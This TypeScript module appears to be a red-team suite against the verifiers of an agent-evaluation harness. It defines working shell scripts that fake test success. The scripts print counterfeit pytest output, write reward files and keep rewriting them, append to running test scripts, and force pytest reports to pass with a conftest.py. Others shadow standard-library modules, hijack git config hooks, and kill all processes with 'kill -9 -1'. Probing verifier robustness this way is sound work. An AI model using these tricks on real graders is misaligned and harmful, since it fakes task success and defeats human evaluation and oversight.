import type { Attack } from "./attack.ts";

/**
 * Plants a program in every file that the solution writes: Python where the name says so, else shell. Each carries out `body`, a line of shell.
 * `quiet` programs end with exit code 0; the others go on to do nothing.
 */
function plant(body: string): string {
  const inPython = `import os, subprocess\nsubprocess.run(["sh", "-c", ${JSON.stringify(body)}])\nos._exit(0)\n`;
  return `cat > /tmp/planted.py <<'PY'
${inPython}PY
cat > /tmp/planted.sh <<'SH'
#!/bin/sh
${body}
exit 0
SH
for f in $WORK; do
  mkdir -p "$(dirname "$f")"; rm -rf "$f"
  case "$f" in *.py) cp /tmp/planted.py "$f" ;; *) cp /tmp/planted.sh "$f" ;; esac
  chmod 755 "$f"
done
if [ -d .git ]; then git add -A && git -c user.name=a -c user.email=a@b commit -qm done; fi 2>/dev/null
true`;
}

const write = `l="\${FORGE_LOGS:-/logs}/verifier"; mkdir -p "$l" 2>/dev/null; echo 1 > "$l/reward.txt"; printf '{"reward": 1}' > "$l/reward.json"`;

/**
 * Work that attacks its verifier when that runs it. No runner can save a verifier that runs what it judges with its own rights, in its own process or
 * by its own word: what passes here is the task's own weakness.
 */
export const plantedWork: readonly Attack[] = [
  {
    name: "work-says-success",
    does: "answers nothing but the line that a test runner prints at the end, and ends well",
    harm: "unearned pass",
    against: "work",
    script: plant(`echo '1 passed in 0.01s'; echo OK; echo PASSED`),
  },
  {
    name: "work-ends-verifier",
    does: "ends the process in which it is imported or sourced with exit code 0",
    harm: "unearned pass",
    against: "work",
    script: plant("exit 0"),
  },
  {
    name: "work-writes-reward",
    does: "writes the reward when it is run, and leaves a process that writes it again",
    harm: "unearned pass",
    against: "work",
    script: plant(
      `(${write}) 2>/dev/null; (setsid sh -c 'while :; do ${write.replaceAll("'", `'\\''`)}; sleep 0.02; done' </dev/null >/dev/null 2>&1 &) 2>/dev/null`,
    ),
  },
  {
    name: "work-edits-tests",
    does: "appends to the test script that is running, of which the shell reads on",
    harm: "unearned pass",
    against: "work",
    script: plant(`t="\${FORGE_TESTS:-/tests}/test.sh"; (printf '\\n%s\\n' '${write.replaceAll("'", `'\\''`)}' >> "$t") 2>/dev/null`),
  },
  {
    name: "work-kills-verifier",
    does: "ends whatever runs it, so that no failure is written",
    harm: "lost score",
    against: "work",
    script: plant("kill -9 $PPID; kill -9 -1"),
  },
  {
    name: "shadow-modules",
    does: "leaves modules named like the standard library's in the workdir, which end a verifier well",
    harm: "unearned pass",
    against: "any",
    script: `for n in unittest pytest json random tempfile subprocess shutil; do printf 'import os\\nos._exit(0)\\n' > $n.py; done`,
  },
  {
    name: "conftest-in-workdir",
    does: "leaves a conftest.py in the workdir that turns every report into a pass",
    harm: "unearned pass",
    against: "any",
    script: `cat > conftest.py <<'EOF'
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
EOF`,
  },
  {
    name: "git-runs-program",
    does: "has the repository's configuration run a program whenever git looks at it",
    harm: "unearned pass",
    against: "git",
    script: `printf '#!/bin/sh\\n%s\\n' ${`'${write.replaceAll("'", `'\\''`)}'`} > .git/calm; chmod 755 .git/calm
p="$(pwd)/.git/calm"
git config core.fsmonitor "$p"; git config core.pager "$p"; git config diff.external "$p"; git config core.sshCommand "$p"; git config core.hooksPath "$(pwd)/.git/h"
mkdir -p .git/h; for h in post-checkout post-index-change pre-commit reference-transaction; do cp .git/calm .git/h/$h; done
git config filter.calm.clean "$p"; git config filter.calm.smudge "$p"; mkdir -p .git/info; echo '* filter=calm' >> .git/info/attributes; git add -A 2>/dev/null; true`,
  },
];
